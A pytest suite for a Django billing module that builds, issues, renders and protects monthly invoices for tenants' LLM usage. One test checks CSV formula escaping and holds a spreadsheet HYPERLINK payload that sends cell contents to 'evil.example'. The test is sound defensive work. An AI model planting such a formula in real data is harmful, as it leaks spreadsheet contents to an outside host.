import csv
import io
import json
import threading
from datetime import UTC, date, datetime, timedelta
from decimal import ROUND_HALF_UP, Decimal

import pytest
from django.contrib.auth.models import Group, Permission, User
from django.contrib.messages import get_messages
from django.core.management import CommandError, call_command
from django.db import connection, transaction
from django.db.models import Sum
from django.utils import timezone
from pypdf import PdfReader

from billing.invoicing import InvoiceError, credit_note_create, invoice_generate, invoice_issue, invoices_generate, usage_reprice
from billing.models import (
    DailyUsage,
    Invoice,
    InvoiceImmutableError,
    InvoiceKind,
    InvoiceLine,
    InvoiceSection,
    InvoiceStatus,
    UsageRecord,
)
from billing.rendering import invoice_csv, invoice_html, invoice_pdf
from billing.services import usage_record_append, usage_record_build
from billing.tasks import generate_monthly_invoices
from providers.models import Credential, ModelPrice
from providers.services import credential_set
from providers.types import ChatResult, FinishReason, Usage
from tenants.services import api_key_issue, tenant_create

pytestmark = pytest.mark.django_db

NOVEMBER = date(2026, 11, 1)
CENT = Decimal("0.01")


@pytest.fixture(autouse=True)
def in_december(monkeypatch):
    """November's invoices are issued once November is over (in every client's time zone): these tests run in early
    December 2026 (the clock keeps moving, shifted)."""
    real_now = timezone.now
    shift = datetime(2026, 12, 5, 9, tzinfo=UTC) - real_now()
    monkeypatch.setattr(timezone, "now", lambda: real_now() + shift)


def cents(value: Decimal) -> Decimal:
    return value.quantize(CENT, rounding=ROUND_HALF_UP)


def make_tenant(slug, markup="0", byok_fee="0", tz="UTC"):
    tenant, _ = tenant_create(slug=slug, name=slug.title() + " Corp", timezone_name=tz)
    tenant.markup_percent, tenant.byok_fee_percent = Decimal(markup), Decimal(byok_fee)
    tenant.save()
    return tenant


@pytest.fixture
def acme(models):
    return make_tenant("acme", markup="20", byok_fee="5")


def call(tenant, model, at, credential=None, n=1, **tokens):
    usage = Usage(**{"input_tokens": 10_000 * n, "output_tokens": 2_000 * n, **tokens})
    result = ChatResult(text="ok", finish_reason=FinishReason.STOP, usage=usage, model=model.model_id)
    return usage_record_append(usage_record_build(tenant=tenant, model=model, credential=credential, result=result, at=at))


def nov(day, hour=12):
    return datetime(2026, 11, day, hour, tzinfo=UTC)


@pytest.fixture
def acme_month(acme, models):
    byok = credential_set(kind="anthropic", key="sk-ant-acme-own", tenant=acme)
    for day in (1, 9, 17, 30):
        call(acme, models["haiku"], nov(day), n=day, cached_input_tokens=300, cache_write_tokens=40)
        call(acme, models["mini"], nov(day), n=2, reasoning_tokens=0)
        call(acme, models["haiku"], nov(day), credential=byok, n=3)
    call(acme, models["mini"], datetime(2026, 10, 31, 23, tzinfo=UTC))  # October: not on November's invoice
    return acme


# --- building ------------------------------------------------------------------------------------------------


def test_it_bills_each_model_at_provider_cost_plus_markup(acme_month, models):
    invoice = invoice_generate(tenant=acme_month, month=NOVEMBER)

    assert (invoice.status, invoice.kind, invoice.currency, invoice.number) == (InvoiceStatus.DRAFT, InvoiceKind.INVOICE, "USD", None)
    assert (invoice.period_start, invoice.period_end) == (date(2026, 11, 1), date(2026, 11, 30))
    usage = {line.model_id: line for line in invoice.lines.filter(section=InvoiceSection.USAGE)}
    assert set(usage) == {models["haiku"].pk, models["mini"].pk}
    for model in models.values():
        ledger = UsageRecord.objects.filter(tenant=acme_month, model=model, ownership="agency", local_date__month=11)
        line = usage[model.pk]
        assert line.calls == ledger.count() == 4
        assert line.input_tokens == ledger.aggregate(s=Sum("input_tokens"))["s"]
        assert line.provider_cost == ledger.aggregate(s=Sum("cost"))["s"]
        assert line.markup_percent == Decimal("20")
        assert line.amount == cents(line.provider_cost * Decimal("1.2"))
        assert line.model_name == model.display_name
    assert usage[models["haiku"].pk].cached_input_tokens == 1200
    assert invoice.total == invoice.subtotal == sum(line.amount for line in invoice.lines.all())


def test_it_shows_byok_usage_apart_and_charges_only_the_platform_fee(acme_month, models):
    invoice = invoice_generate(tenant=acme_month, month=NOVEMBER)

    [byok] = invoice.lines.filter(section=InvoiceSection.BYOK)
    ledger = UsageRecord.objects.filter(tenant=acme_month, ownership="byok")
    assert (byok.model_id, byok.calls, byok.provider_cost) == (models["haiku"].pk, 4, ledger.aggregate(s=Sum("cost"))["s"])
    assert byok.markup_percent == Decimal("5")
    assert byok.amount == cents(byok.provider_cost * Decimal("0.05")) > 0
    billed = DailyUsage.objects.filter(tenant=acme_month, ownership="byok").aggregate(s=Sum("billed_amount"))["s"]
    assert byok.amount == cents(billed)

    acme_month.byok_fee_percent = Decimal("0")
    acme_month.save()
    [byok] = invoice_generate(tenant=acme_month, month=NOVEMBER).lines.filter(section=InvoiceSection.BYOK)
    assert byok.amount == cents(billed), "a change of fee never reprices calls already made"
    byok_key = Credential.objects.get(tenant=acme_month)
    call(acme_month, models["haiku"], nov(30, 20), credential=byok_key, n=3)
    lines = invoice_generate(tenant=acme_month, month=NOVEMBER).lines.filter(section=InvoiceSection.BYOK).order_by("markup_percent")
    assert [(line.markup_percent, line.calls) for line in lines] == [(Decimal("0"), 1), (Decimal("5"), 4)]
    assert lines[0].amount == Decimal("0.00") and lines[0].provider_cost > 0


def test_invoice_totals_equal_the_rollups(acme_month, models):
    globex = make_tenant("globex", markup="12.5", tz="Asia/Tokyo")
    for hour in range(0, 24, 5):
        call(globex, models["mini"], nov(15, hour), n=hour + 1, cached_input_tokens=17)
    call(globex, models["mini"], datetime(2026, 11, 30, 16, tzinfo=UTC))  # Dec 1 in Tokyo: December

    invoices = invoices_generate(month=NOVEMBER)

    assert {invoice.tenant.slug for invoice in invoices} == {"acme", "globex"}
    for invoice in invoices:
        rollups = DailyUsage.objects.filter(tenant=invoice.tenant, day__gte=NOVEMBER, day__lte=date(2026, 11, 30))
        ledger = UsageRecord.objects.filter(tenant=invoice.tenant, local_date__gte=NOVEMBER, local_date__lte=date(2026, 11, 30))
        lines = invoice.lines.aggregate(cost=Sum("provider_cost"), calls=Sum("calls"), amount=Sum("amount"))
        assert lines["cost"] == invoice.provider_cost == rollups.aggregate(s=Sum("provider_cost"))["s"] == ledger.aggregate(s=Sum("cost"))["s"]
        assert lines["calls"] == rollups.aggregate(s=Sum("calls"))["s"] == ledger.count()
        assert lines["amount"] == invoice.total
    assert Invoice.objects.get(tenant__slug="globex").lines.get().calls == 5


def test_old_calls_keep_the_old_price_after_a_mid_month_change(acme, models):
    haiku = models["haiku"]
    old = haiku.price_at(nov(14))
    ModelPrice.objects.create(
        model=haiku, valid_from=nov(15, 0), input_per_mtok=old.input_per_mtok * 2, output_per_mtok=old.output_per_mtok * 2,
        cached_input_per_mtok=old.cached_input_per_mtok, cache_write_per_mtok=old.cache_write_per_mtok, source="test",
    )
    before = call(acme, haiku, nov(5))
    after = call(acme, haiku, nov(20))

    invoice = invoice_generate(tenant=acme, month=NOVEMBER)

    assert before.price_id == old.pk and after.price_id != old.pk
    assert after.cost == 2 * before.cost
    [line] = invoice.lines.all()
    assert (line.calls, line.provider_cost) == (2, before.cost + after.cost)
    assert line.amount == cents((before.cost + after.cost) * Decimal("1.2"))


def test_regenerating_a_draft_replaces_its_lines_with_late_rows_included(acme_month, models):
    first = invoice_generate(tenant=acme_month, month=NOVEMBER)
    call(acme_month, models["mini"], nov(30, 23), n=50)  # arrives after the first draft, not yet rolled up

    again = invoice_generate(tenant=acme_month, month=NOVEMBER)

    assert again.pk == first.pk
    assert again.lines.count() == 3
    assert again.lines.get(section=InvoiceSection.USAGE, model=models["mini"]).calls == 5
    assert again.total > first.total
    assert Invoice.objects.count() == 1


def test_it_rounds_each_line_half_up_to_the_cent(models):
    tenant = make_tenant("round", markup="0")
    # gpt-4o-mini input is 0.15 USD/MTok: 100,000 input tokens cost exactly 0.015 → 0.02 (half up), twice.
    call(tenant, models["mini"], nov(3), n=10, output_tokens=0)
    call(tenant, models["haiku"], nov(3), input_tokens=5_000, output_tokens=0)  # 1 USD/MTok → 0.005 → 0.01

    invoice = invoice_generate(tenant=tenant, month=NOVEMBER)

    amounts = {line.model_id: (line.provider_cost, line.amount) for line in invoice.lines.all()}
    assert amounts[models["mini"].pk] == (Decimal("0.015"), Decimal("0.02"))
    assert amounts[models["haiku"].pk] == (Decimal("0.005"), Decimal("0.01"))
    assert invoice.total == Decimal("0.03")  # the sum of rounded lines, not the rounded sum (0.02)


# --- issuing, immutability, numbering, credit notes -----------------------------------------------------------


def test_issued_invoices_are_immutable(acme_month, models):
    invoice = invoice_issue(invoice=invoice_generate(tenant=acme_month, month=NOVEMBER))
    line = invoice.lines.first()

    invoice.total = Decimal("1.00")
    with pytest.raises(InvoiceImmutableError):
        invoice.save()
    with pytest.raises(InvoiceImmutableError):
        invoice.delete()
    with pytest.raises(InvoiceImmutableError):
        Invoice.objects.filter(pk=invoice.pk).update(total=Decimal("1.00"))
    with pytest.raises(InvoiceImmutableError):
        Invoice.objects.filter(pk=invoice.pk).delete()
    line.amount = Decimal("0")
    with pytest.raises(InvoiceImmutableError):
        line.save()
    with pytest.raises(InvoiceImmutableError):
        line.delete()
    with pytest.raises(InvoiceImmutableError):
        invoice.lines.all().delete()
    with pytest.raises(InvoiceImmutableError):
        InvoiceLine.objects.bulk_create([InvoiceLine(invoice=invoice, section="usage", provider_kind="openai", model=models["mini"],
                                                     model_name="x", provider_cost=1, markup_percent=0, amount=1)])

    stored = Invoice.objects.get(pk=invoice.pk)
    call(acme_month, models["mini"], nov(30, 23))  # late usage does not reach an issued invoice
    assert invoice_generate(tenant=acme_month, month=NOVEMBER).pk == invoice.pk
    assert Invoice.objects.get(pk=invoice.pk).total == stored.total
    assert invoice.lines.count() == 3
    assert invoice_issue(invoice=invoice).number == stored.number  # issuing again changes nothing


def test_a_stale_draft_copy_cannot_overwrite_an_issued_invoice(acme_month):
    draft = invoice_generate(tenant=acme_month, month=NOVEMBER)
    invoice_issue(invoice=Invoice.objects.get(pk=draft.pk))

    draft.total = Decimal("0")
    with pytest.raises(InvoiceImmutableError):
        draft.save()


def test_numbers_are_sequential_without_gaps_across_tenants(models):
    tenants = [make_tenant(slug) for slug in ("alpha", "bravo", "charlie")]
    for tenant in tenants:
        call(tenant, models["mini"], nov(2))
    drafts = invoices_generate(month=NOVEMBER)

    # A rolled-back issue gives its number back.
    with pytest.raises(RuntimeError), transaction.atomic():
        invoice_issue(invoice=drafts[1])
        raise RuntimeError("crash after numbering")
    numbers = [invoice_issue(invoice=invoice).number for invoice in (drafts[2], drafts[0], drafts[1])]

    year = timezone.localdate().year
    assert numbers == [f"AH-{year}-000001", f"AH-{year}-000002", f"AH-{year}-000003"]


@pytest.mark.django_db(transaction=True)
def test_concurrent_issues_get_distinct_consecutive_numbers(models):
    tenants = [make_tenant(f"t{i}") for i in range(8)]
    for tenant in tenants:
        call(tenant, models["mini"], nov(2))
    drafts = invoices_generate(month=NOVEMBER)
    barrier = threading.Barrier(len(drafts))
    numbers, errors = [], []

    def issue(invoice):
        try:
            barrier.wait()
            numbers.append(invoice_issue(invoice=invoice).number)
        except Exception as exc:  # noqa: BLE001 - reported by the assertion below
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=issue, args=(draft,)) for draft in drafts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert errors == []
    assert sorted(int(number.rsplit("-", 1)[1]) for number in numbers) == list(range(1, 9))


def test_a_credit_note_cancels_an_issued_invoice_and_the_month_can_be_reissued(acme_month, models):
    invoice = invoice_issue(invoice=invoice_generate(tenant=acme_month, month=NOVEMBER))
    with pytest.raises(InvoiceError):
        credit_note_create(invoice=invoice, reason="")

    note = credit_note_create(invoice=invoice, reason="Markup was wrong")

    assert (note.kind, note.status, note.corrects_id, note.reason) == (InvoiceKind.CREDIT_NOTE, InvoiceStatus.ISSUED, invoice.pk, "Markup was wrong")
    assert int(note.number.rsplit("-", 1)[1]) == int(invoice.number.rsplit("-", 1)[1]) + 1
    assert note.total == -invoice.total and note.provider_cost == -invoice.provider_cost
    original = sorted((line.model_id, line.section, line.calls, line.amount) for line in invoice.lines.all())
    negated = sorted((line.model_id, line.section, -line.calls, -line.amount) for line in note.lines.all())
    assert negated == original
    assert Invoice.objects.get(pk=invoice.pk).status == InvoiceStatus.VOID
    with pytest.raises(InvoiceError):
        credit_note_create(invoice=Invoice.objects.get(pk=invoice.pk), reason="twice")

    acme_month.markup_percent = Decimal("10")
    acme_month.save()
    assert invoice_generate(tenant=acme_month, month=NOVEMBER).total == invoice.total  # rates are fixed per call ...
    assert usage_reprice(tenant=acme_month, month=NOVEMBER) == 12  # ... until finance reprices the cancelled month
    corrected = invoice_issue(invoice=invoice_generate(tenant=acme_month, month=NOVEMBER))
    assert corrected.pk not in (invoice.pk, note.pk)
    assert corrected.total < invoice.total
    assert int(corrected.number.rsplit("-", 1)[1]) == int(note.number.rsplit("-", 1)[1]) + 1


def test_a_draft_cannot_be_credited(acme_month):
    with pytest.raises(InvoiceError):
        credit_note_create(invoice=invoice_generate(tenant=acme_month, month=NOVEMBER), reason="no")


# --- command and beat task ------------------------------------------------------------------------------------


def test_the_command_generates_and_issues_with_a_json_summary(acme_month, models):
    other = make_tenant("globex")
    call(other, models["haiku"], nov(4))
    out, err = io.StringIO(), io.StringIO()

    call_command("generate_invoices", "--month", "2026-11", "--issue", stdout=out, stderr=err)

    summary = json.loads(out.getvalue())
    assert summary["month"] == "2026-11" and summary["count"] == 2
    invoices = Invoice.objects.filter(period_start=NOVEMBER)
    assert {i["number"] for i in summary["invoices"]} == set(invoices.values_list("number", flat=True))
    assert all(i["status"] == "issued" for i in summary["invoices"])
    assert Decimal(summary["totals"]["USD"]) == invoices.aggregate(s=Sum("total"))["s"]
    assert "[2/2]" in err.getvalue()

    out = io.StringIO()
    call_command("generate_invoices", "--month", "2026-11", "--tenant", "globex", stdout=out, stderr=io.StringIO())
    assert [i["tenant"] for i in json.loads(out.getvalue())["invoices"]] == ["globex"]


def test_the_monthly_task_drafts_the_previous_month(acme, models):
    last_month = timezone.now().replace(day=1) - timedelta(days=2)
    call(acme, models["mini"], last_month)

    assert generate_monthly_invoices.delay().get() == 1

    invoice = Invoice.objects.get()
    assert (invoice.tenant, invoice.period_start, invoice.status) == (acme, last_month.date().replace(day=1), InvoiceStatus.DRAFT)


# --- rendering ------------------------------------------------------------------------------------------------


def test_the_pdf_shows_number_tenant_lines_and_total(acme_month, models):
    invoice = invoice_issue(invoice=invoice_generate(tenant=acme_month, month=NOVEMBER))

    pdf = invoice_pdf(invoice)

    assert pdf.startswith(b"%PDF")
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages).split())
    assert invoice.number in text
    assert "Acme Corp" in text
    assert f"Total: {invoice.total} USD" in text
    assert models["haiku"].display_name in text
    assert "BYOK" in text


def test_the_issue_date_is_the_clients_own(acme_month):
    acme_month.timezone = "Pacific/Auckland"  # UTC+13 in December
    acme_month.save(update_fields=["timezone"])
    invoice = invoice_generate(tenant=acme_month, month=NOVEMBER)
    invoice.issued_at = datetime(2026, 12, 1, 20, 30, tzinfo=UTC)  # 09:30 on 2 December there; shown, not saved

    assert "Issued: 2026-12-02" in invoice_html(invoice)


def test_the_csv_has_a_row_per_line_and_totals_that_add_up(acme_month):
    invoice = invoice_issue(invoice=invoice_generate(tenant=acme_month, month=NOVEMBER))

    rows = list(csv.DictReader(io.StringIO(invoice_csv(invoice))))

    lines, [total] = rows[:-1], rows[-1:]
    assert len(lines) == invoice.lines.count() == 3
    assert {row["invoice_number"] for row in rows} == {invoice.number}
    assert {row["tenant"] for row in rows} == {"acme"}
    assert total["section"] == "total"
    assert sum(Decimal(row["amount"]) for row in lines) == Decimal(total["amount"]) == invoice.total
    assert sum(Decimal(row["provider_cost"]) for row in lines) == Decimal(total["provider_cost"]) == invoice.provider_cost
    assert {row["section"] for row in lines} == {"usage", "byok"}


# --- downloads and permissions --------------------------------------------------------------------------------


@pytest.fixture
def invoice(acme_month):
    return invoice_issue(invoice=invoice_generate(tenant=acme_month, month=NOVEMBER))


@pytest.fixture
def finance_user():
    user = User.objects.create_user("fiona", password="x", is_staff=True)
    user.groups.add(Group.objects.get(name="Finance"))
    return user


@pytest.fixture
def staff_user():
    user = User.objects.create_user("sam", password="x", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_invoice"))
    return user


def download_urls(invoice):
    return [f"/billing/invoices/{invoice.pk}.pdf", f"/billing/invoices/{invoice.pk}.csv", "/billing/invoices/"]


def test_finance_downloads_pdf_and_csv(client, finance_user, invoice):
    client.force_login(finance_user)

    pdf = client.get(f"/billing/invoices/{invoice.pk}.pdf")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    assert f'filename="{invoice.number}-acme-2026-11.pdf"' in pdf["Content-Disposition"]
    assert invoice.number in PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text()
    csv_response = client.get(f"/billing/invoices/{invoice.pk}.csv")
    assert csv_response.status_code == 200
    assert csv_response.content.decode() == invoice_csv(invoice)

    listing = client.get("/billing/invoices/", {"month": "2026-11", "tenant": "acme"})
    assert listing.status_code == 200 and invoice.number in listing.content.decode()
    assert invoice.number not in client.get("/billing/invoices/", {"month": "2026-10"}).content.decode()
    assert client.get("/billing/invoices/999999.pdf").status_code == 404
    assert client.get("/billing/")["Location"] == "/billing/invoices/"
    odd = client.get("/billing/invoices/", {"month": "2026-13"}).content.decode()
    assert "is not a month written YYYY-MM" in odd and invoice.number in odd  # said, not silently ignored


def test_staff_without_the_finance_permission_get_403(client, staff_user, invoice):
    client.force_login(staff_user)
    for url in download_urls(invoice):
        assert client.get(url).status_code == 403, url
    assert client.get(f"/admin/billing/invoice/{invoice.pk}/pdf/").status_code == 403
    changelist = client.get("/admin/billing/invoice/")
    assert changelist.status_code == 200 and "/pdf/" not in changelist.content.decode()


def test_anonymous_users_are_sent_to_the_login_page(client, invoice):
    for url in download_urls(invoice):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/admin/login/"), url


def test_a_client_api_key_never_downloads_an_invoice(client, invoice):
    raw_key = api_key_issue(tenant=invoice.tenant).raw
    for url in download_urls(invoice):
        response = client.get(url, HTTP_AUTHORIZATION=f"Bearer {raw_key}")
        assert response.status_code == 302 and response["Location"].startswith("/admin/login/"), url
        assert not response.content.startswith(b"%PDF")


def test_finance_downloads_from_the_admin(client, finance_user, invoice):
    client.force_login(finance_user)

    changelist = client.get("/admin/billing/invoice/")
    assert changelist.status_code == 200
    assert f"/admin/billing/invoice/{invoice.pk}/pdf/" in changelist.content.decode()
    assert client.get(f"/admin/billing/invoice/{invoice.pk}/pdf/").content.startswith(b"%PDF")
    assert client.get(f"/admin/billing/invoice/{invoice.pk}/csv/").status_code == 200
    assert client.get("/admin/billing/dailyusage/").status_code == 200
    assert client.get("/admin/billing/usagerecord/").status_code == 200


# --- admin ----------------------------------------------------------------------------------------------------


def test_the_admin_refuses_to_change_or_delete_an_issued_invoice(admin_client, invoice):
    stored = Invoice.objects.get(pk=invoice.pk)

    assert admin_client.get(f"/admin/billing/invoice/{invoice.pk}/change/").status_code == 200  # viewable
    assert admin_client.post(f"/admin/billing/invoice/{invoice.pk}/delete/", {"post": "yes"}).status_code == 403
    assert admin_client.post(f"/admin/billing/invoice/{invoice.pk}/change/", {"reason": "edited"}).status_code == 403
    assert Invoice.objects.get(pk=invoice.pk).reason == stored.reason
    assert invoice.lines.count() == 3


def test_the_admin_actions_refresh_and_issue_drafts(admin_client, acme_month, models):
    draft = invoice_generate(tenant=acme_month, month=NOVEMBER)
    call(acme_month, models["mini"], nov(29), n=50)
    changelist = "/admin/billing/invoice/"

    admin_client.post(changelist, {"action": "refresh_drafts", "_selected_action": [draft.pk]})
    assert Invoice.objects.get(pk=draft.pk).total > draft.total
    admin_client.post(changelist, {"action": "issue", "_selected_action": [draft.pk]})
    assert Invoice.objects.get(pk=draft.pk).status == InvoiceStatus.ISSUED
    again = admin_client.post(changelist, {"action": "issue", "_selected_action": [draft.pk]}, follow=True)
    assert [str(m) for m in get_messages(again.wsgi_request)][-2:] == [
        "Issued 1 invoice(s): AH-2026-000001.", "Nothing issued: only drafts can be issued, and none was selected."]


def test_issuing_from_the_admin_bills_what_the_ledger_holds_not_a_draft_built_mid_month(admin_client, acme, models, monkeypatch):
    """A draft built on the 20th, usage on the 28th, then Issue clicked on the 1st before the refresh task ran: the
    invoice issued is rebuilt from the ledger first. Issuing an old draft directly is refused with what to do."""
    call(acme, models["mini"], nov(10), n=100)
    real_now = timezone.now
    monkeypatch.setattr(timezone, "now", lambda: datetime(2026, 11, 20, 12, tzinfo=UTC))
    draft = invoice_generate(tenant=acme, month=NOVEMBER)
    call(acme, models["mini"], nov(28), n=5000)
    monkeypatch.setattr(timezone, "now", lambda: real_now())  # December again (the autouse fixture's clock)
    with pytest.raises(InvoiceError, match="refresh it, then issue it"):
        invoice_issue(invoice=Invoice.objects.get(pk=draft.pk))
    admin_client.post("/admin/billing/invoice/", {"action": "issue", "_selected_action": [draft.pk]})
    issued = Invoice.objects.get(pk=draft.pk)
    month_cost = UsageRecord.objects.filter(tenant=acme, local_date__month=11).aggregate(cost=Sum("cost"))["cost"]
    assert issued.status == InvoiceStatus.ISSUED and issued.provider_cost == month_cost


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(acme, models):
    """Model names are set by staff who cannot see invoices; finance opens the CSV in a spreadsheet."""
    models["mini"].display_name = '=HYPERLINK("http://evil.example/?x="&A2,"GPT-4o mini")'
    models["mini"].save()
    call(acme, models["mini"], nov(3))
    rows = list(csv.DictReader(io.StringIO(invoice_csv(invoice_generate(tenant=acme, month=NOVEMBER)))))
    assert rows[0]["model"] == "'" + models["mini"].display_name


def test_the_admin_generates_invoices_for_a_month(admin_client, acme_month):
    response = admin_client.post("/admin/billing/invoice/generate/", {"month": "2026-11"})

    assert response.status_code == 302
    assert Invoice.objects.get().tenant == acme_month


def test_months_are_read_one_way_everywhere():
    from billing.invoicing import parse_month

    assert parse_month("2026-11") == date(2026, 11, 1) and parse_month(" 2026-02 ") == date(2026, 2, 1)
    for bad in ("2026-13", "11/2026", "2026-11-05", ""):
        with pytest.raises(ValueError, match="YYYY-MM"):
            parse_month(bad)


# --- a month is invoiced once it is over ------------------------------------------------------------------------


def test_a_month_that_has_not_ended_for_the_client_cannot_be_issued(acme, models, monkeypatch, admin_client):
    tokyo = make_tenant("tokyo", tz="Asia/Tokyo")
    call(tokyo, models["mini"], nov(10))
    call(acme, models["mini"], nov(10))
    real_now = timezone.now
    shift = datetime(2026, 11, 30, 20, tzinfo=UTC) - real_now()  # December 1 in Tokyo, still November in UTC
    monkeypatch.setattr(timezone, "now", lambda: real_now() + shift)
    assert invoice_issue(invoice=invoice_generate(tenant=tokyo, month=NOVEMBER)).number
    draft = invoice_generate(tenant=acme, month=NOVEMBER)
    with pytest.raises(InvoiceError, match="has not ended"):
        invoice_issue(invoice=draft)
    with pytest.raises(CommandError, match="has not ended for acme"):
        call_command("generate_invoices", "--month", "2026-11", "--issue", stdout=io.StringIO(), stderr=io.StringIO())
    response = admin_client.post("/admin/billing/invoice/", {"action": "issue", "_selected_action": [draft.pk]}, follow=True)
    shown = [str(m) for m in get_messages(response.wsgi_request)]
    assert response.status_code == 200 and len(shown) == 1 and "has not ended" in shown[0]
    assert Invoice.objects.get(pk=draft.pk).status == InvoiceStatus.DRAFT and Invoice.objects.filter(number__gt="").count() == 1
    with pytest.raises(CommandError, match="has not started"):
        call_command("generate_invoices", "--month", "2027-03", stdout=io.StringIO(), stderr=io.StringIO())


@pytest.mark.parametrize("args, message", [(["--month", "9999-12"], "out of range"), (["--month", "0001-01"], "out of range"),
                                           (["--month", ""], "YYYY-MM"),
                                           (["--tenant", ""], "no tenant")])
def test_odd_command_arguments_are_clear_errors(acme, args, message):
    with pytest.raises(CommandError, match=message):
        call_command("generate_invoices", *args, stdout=io.StringIO(), stderr=io.StringIO())


def test_a_month_before_the_client_existed_is_refused_unless_it_has_usage(acme, models, admin_client):
    # The tests' clock says 5 December 2026: acme became a client then, with no usage in October.
    with pytest.raises(CommandError, match="ended before acme became a client"):
        call_command("generate_invoices", "--month", "2026-10", "--tenant", "acme", stdout=io.StringIO(), stderr=io.StringIO())
    response = admin_client.post("/admin/billing/invoice/generate/", {"month": "2026-10", "tenant": acme.pk})
    assert response.status_code == 200 and "ended before Acme Corp became a client" in response.content.decode()
    assert not Invoice.objects.exists()

    call(acme, models["mini"], datetime(2026, 10, 20, tzinfo=UTC), n=100)  # usage (imported, say): billable
    call_command("generate_invoices", "--month", "2026-10", "--tenant", "acme", stdout=io.StringIO(), stderr=io.StringIO())
    assert Invoice.objects.get().total > 0


def test_the_csv_writes_zero_amounts_plainly(acme, models):
    call(acme, models["mini"], nov(3), input_tokens=0, output_tokens=0)
    text = invoice_csv(invoice_generate(tenant=acme, month=NOVEMBER))
    assert "E-" not in text and ",0.00000000," in text


def test_finance_generates_and_issues_invoices_in_the_admin(client, finance_user, acme_month):
    client.force_login(finance_user)
    assert client.post("/admin/billing/invoice/generate/", {"month": "2026-11"}).status_code == 302
    draft = Invoice.objects.get(tenant=acme_month)
    client.post("/admin/billing/invoice/", {"action": "issue", "_selected_action": [draft.pk]})
    assert Invoice.objects.get(pk=draft.pk).status == InvoiceStatus.ISSUED


def test_a_change_of_markup_bills_the_calls_made_after_it_and_never_reprices_the_past(acme, models):
    first = call(acme, models["mini"], nov(3))
    acme.markup_percent = Decimal("50")
    acme.save()
    second = call(acme, models["mini"], nov(20))
    assert (first.billed_percent, second.billed_percent) == (Decimal("20"), Decimal("50"))
    lines = invoice_generate(tenant=acme, month=NOVEMBER).lines.order_by("markup_percent")
    assert [(line.markup_percent, line.calls) for line in lines] == [(Decimal("20"), 1), (Decimal("50"), 1)]
    assert [line.amount for line in lines] == [cents(first.cost * Decimal("1.2")), cents(second.cost * Decimal("1.5"))]
    nov3 = DailyUsage.objects.get(tenant=acme, day=date(2026, 11, 3))
    assert nov3.billed_amount == first.billed == first.cost * Decimal("1.2")


def test_one_hour_cache_writes_are_counted_in_roll_ups_and_invoice_lines(acme, models):
    call(acme, models["haiku"], nov(3), cache_write_tokens=100, cache_write_1h_tokens=60)
    invoice = invoice_generate(tenant=acme, month=NOVEMBER)
    [line] = invoice.lines.all()
    assert (line.cache_write_tokens, line.cache_write_1h_tokens) == (100, 60)
    assert DailyUsage.objects.get(tenant=acme).cache_write_1h_tokens == 60
    [row, _total] = list(csv.DictReader(io.StringIO(invoice_csv(invoice))))
    assert row["cache_write_1h_tokens"] == "60"


def test_a_month_is_repriced_only_once_its_issued_invoice_is_cancelled(acme_month, capsys):
    invoice_issue(invoice=invoice_generate(tenant=acme_month, month=NOVEMBER))
    with pytest.raises(CommandError, match="credit note first"):
        call_command("generate_invoices", "--month", "2026-11", "--tenant", "acme", "--reprice")
    with pytest.raises(CommandError, match="needs --tenant"):
        call_command("generate_invoices", "--month", "2026-11", "--reprice")


def test_an_issued_invoice_shows_the_client_as_it_was_when_issued(acme_month, client, finance_user):
    invoice = invoice_issue(invoice=invoice_generate(tenant=acme_month, month=NOVEMBER))
    acme_month.name, acme_month.slug, acme_month.timezone = "Renamed Ltd", "renamed", "America/New_York"
    acme_month.save()
    invoice = Invoice.objects.get(pk=invoice.pk)
    assert "Acme Corp" in invoice_html(invoice) and "(UTC)" in invoice_html(invoice)
    assert {row["tenant"] for row in csv.DictReader(io.StringIO(invoice_csv(invoice)))} == {"acme"}
    draft = invoice_generate(tenant=acme_month, month=date(2026, 10, 1))
    assert "Renamed Ltd" in invoice_html(draft)  # a draft shows the client as it is now
